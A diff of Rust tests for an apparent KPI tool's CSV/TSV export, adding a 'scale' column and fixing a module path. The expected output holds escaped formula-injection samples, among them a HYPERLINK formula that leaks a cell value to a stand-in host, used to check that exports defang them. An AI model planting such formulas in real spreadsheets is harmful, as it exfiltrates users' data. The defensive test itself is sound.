@@ -83,7 +83,7 @@ fn a_workbook_cannot_go_to_standard_output() {
 /// The exact decimal a workbook's number cell shows.
 fn cell_decimal(data: &Data) -> Decimal {
     match data {
-        Data::Float(f) => kpi::workbook::exact_decimal(*f).unwrap(),
+        Data::Float(f) => kpi::files::workbook::exact_decimal(*f).unwrap(),
         Data::Int(i) => Decimal::from(*i),
         other => panic!("not a number: {other:?}"),
     }
@@ -253,12 +253,12 @@ fn nothing_in_a_csv_runs_as_a_formula() {
     let csv = eval_formulas(&["--format", "csv"]);
     assert_eq!(
         csv,
-        "level,code,parent,name,unit,weight,target,threshold,value,score,coverage,status,message\n\
-         ambito,A1,,\"'=HYPERLINK(\"\"https://example.invalid/?leak=\"\"&A1,\"\"Clicca qui\"\")\",,1,,,,100,100,,\n\
-         indicator,K1,A1,\"'+SUM(1,1) Pratiche evase\",N.,1,>= 10,,12,100,100,achieved,\n\
-         indicator,K2,A1,'-Variazione del fatturato,%,1,>= -0.1,,-0.05,100,100,achieved,\n\
-         indicator,K3,A1,'@Tempo medio,gg,1,<= 5,,4,100,100,achieved,\n\
-         indicator,K4,A1,Esattamente tre,,1,'= 3,,3,100,100,achieved,\n"
+        "level,code,parent,name,unit,weight,target,threshold,value,score,coverage,status,message,scale\n\
+         ambito,A1,,\"'=HYPERLINK(\"\"https://example.invalid/?leak=\"\"&A1,\"\"Clicca qui\"\")\",,1,,,,100,100,,,\n\
+         indicator,K1,A1,\"'+SUM(1,1) Pratiche evase\",N.,1,>= 10,,12,100,100,achieved,,\n\
+         indicator,K2,A1,'-Variazione del fatturato,%,1,>= -0.1,,-0.05,100,100,achieved,,\n\
+         indicator,K3,A1,'@Tempo medio,gg,1,<= 5,,4,100,100,achieved,,\n\
+         indicator,K4,A1,Esattamente tre,,1,'= 3,,3,100,100,achieved,,\n"
     );
     // Every text cell of the CSV and the TSV is safe; numbers stay numbers.
     for (text, delimiter) in [(csv, b','), (eval_formulas(&["--format", "tsv"]), b'\t')] {
@@ -299,7 +299,7 @@ fn decimal_comma_writes_csv_for_italian_excel() {
     let csv = eval_formulas(&["--format", "csv", "--decimal-comma"]);
     assert!(csv.starts_with("\u{feff}level;code;parent;name;unit;weight;target;"), "{csv}");
     assert!(
-        csv.contains("\nindicator;K2;A1;'-Variazione del fatturato;%;1;>= -0,1;;-0,05;100;100;achieved;\n"),
+        csv.contains("\nindicator;K2;A1;'-Variazione del fatturato;%;1;>= -0,1;;-0,05;100;100;achieved;;\n"),
         "{csv}"
     );
     // The CSV for Italian Excel reads back as kpi's own input would.
